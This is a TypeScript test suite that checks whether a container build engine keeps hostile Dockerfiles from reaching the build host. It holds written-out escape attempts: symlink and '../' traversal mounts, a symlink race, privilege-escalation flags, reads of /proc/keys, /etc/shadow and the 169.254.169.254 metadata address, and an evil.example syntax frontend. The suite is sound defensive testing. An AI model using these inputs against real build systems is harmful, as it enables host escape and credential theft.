/** Dockerfiles and contexts that mean harm to the machine that builds them. */
import assert from 'node:assert/strict'
import { mkdirSync, symlinkSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { after, before, describe, test } from 'node:test'
import type { Said } from '../../support/command.ts'
import { all, Hostile, hostileSkip, secret } from '../../support/hostile.ts'
import { patience } from '../../support/patience.ts'

describe('no way out by builds:', { skip: hostileSkip(), timeout: 240_000 * patience }, () => {
  let at: Hostile
  let canary: string
  let builds = 0
  before(async () => {
    at = await Hostile.start()
    canary = at.canary
  })
  after(() => at.stop())

  /** Builds it without any cache; its output has what its commands print. */
  async function build(dockerfile: string, fill: (context: string) => void = () => undefined): Promise<Said> {
    const context = join(at.engine.folder, `context${++builds}`)
    mkdirSync(context)
    writeFileSync(join(context, 'Dockerfile'), dockerfile)
    fill(context)
    writeFileSync(
      join(context, 'compose.yaml'),
      JSON.stringify({ services: { built: { build: '.', image: `built${builds}`, command: ['cat', '/copied'] } } }),
    )
    const said = await at.engine.tscompose(['build', '--no-cache', '--progress', 'plain'], { cwd: context })
    at.holdCanary()
    assert.doesNotMatch(all(said), new RegExp(secret), dockerfile)
    return said
  }

  test('mounts of a command take what is in their source, by no way up and no link', async () => {
    const out = `FROM busybox AS links\nRUN ln -s ${canary} /l && ln -s / /root-link && ln -s ${canary}/victim /f\n`
    for (const mount of [
      'type=cache,id=c,source=/../../../../../../..,target=/x',
      `type=cache,id=c,source=../../../../../../../..${canary},target=/x`,
      'type=cache,id=../../../../../../x,target=/x',
      `type=cache,from=links,source=/l,target=/x`,
      `type=bind,from=links,source=/l,target=/x`,
      `type=bind,from=links,source=/f,target=/x/victim`,
      `type=bind,from=links,source=/root-link${canary},target=/x`,
      `type=bind,from=links,source=/../../../../../../..${canary},target=/x`,
      'type=bind,source=../../..,target=/x',
      'type=bind,source=l,target=/x',
      'type=bind,source=l/victim,target=/x/victim',
      `type=tmpfs,target=/../../../../..${canary}`,
    ])
      await build(`${out}FROM busybox\nRUN --mount=${mount} ls -la /x; cat /x/victim; touch /x/made; true\n`, context =>
        symlinkSync(canary, join(context, 'l')),
      )
  })

  test('mount points of a command lie in its root, and clearing them away follows no link', async () => {
    for (const target of ['/l/made', '/r/made', `/up${canary}/made`])
      await build(
        `FROM busybox\nRUN ln -s ${canary} /l && ln -s ../../../../../../..${canary} /r && ln -s / /up\n` +
          `RUN --mount=type=cache,target=${target} --mount=type=bind,target=${target}2 touch ${target}/x; rm -f /l; ln -s / /l; true\n`,
      )
  })

  test('a command that changes its folders for links while it ends reaches nothing outside', async () => {
    const swap = `(while :; do rm -rf /d; ln -sfn ${canary} /d; rm -f /d; mkdir -p /d/e; done) & sleep 0.3; true`
    await build(
      `FROM busybox\nRUN --mount=type=cache,target=/d/e ${swap}\nRUN rm -rf /d && ln -s ${canary} /d\nCOPY Dockerfile /d/\nWORKDIR /d/made\nADD Dockerfile /d/victim\n`,
    )
  })

  test('rights beyond those of a container are not to be had by a Dockerfile', async () => {
    for (const text of ['RUN --security=insecure id', 'RUN --network=host id', 'RUN --device=/dev/kmsg id']) {
      const said = await build(`FROM busybox\n${text}\n`)
      assert.notEqual(said.code, 0, text)
    }
    const rights =
      'grep -E "^(CapEff|CapInh|CapAmb|Seccomp|NoNewPrivs):" /proc/self/status; ls /proc/self/fd; cat /proc/keys; (echo x > /proc/sysrq-trigger) 2>&1; mount -t tmpfs x /mnt 2>&1; unshare -U true 2>&1; true'
    const built = await build(`FROM busybox\nRUN ${rights}\n`)
    const ran = await at.run('busybox', 'sh', '-c', rights)
    const told = (text: string) => text.match(/Cap\w+:\s*\w+|Seccomp:\s*\d/g)
    assert.deepEqual(told(all(built)), told(ran.stdout))
    assert.ok(told(ran.stdout)!.length >= 4)
  })

  test('what the first line of a Dockerfile names is not run', async () => {
    const said = await build('# syntax=evil.example/frontend:1\nFROM busybox\nRUN echo built\n')
    assert.doesNotMatch(all(said), /evil\.example.*(resolve|pull|dial)/i)
  })

  test('a Dockerfile, an ignore file and what is copied that are links to files of the host give nothing of them away', async () => {
    const victim = join(canary, 'victim')
    await build('FROM busybox\nCOPY f d/victim /copied/\nRUN cat /copied/*; true\n', context => {
      symlinkSync(victim, join(context, 'f'))
      symlinkSync(canary, join(context, 'd'))
    })
    await build('FROM busybox\nCOPY . /copied/\nRUN cat /copied/f /copied/.dockerignore; true\n', context => {
      symlinkSync(victim, join(context, 'f'))
      symlinkSync(victim, join(context, '.dockerignore'))
    })
    await build('FROM busybox\nADD file:///etc/hostname /copied\nADD http://169.254.169.254/x /copied\n')
    await build(`FROM busybox\nCOPY ${'../'.repeat(12)}${victim.slice(1)} /copied\n`)
    await build('FROM busybox\nRUN --mount=type=secret,id=../../../../etc/shadow,target=/copied cat /copied\n')
  })
})
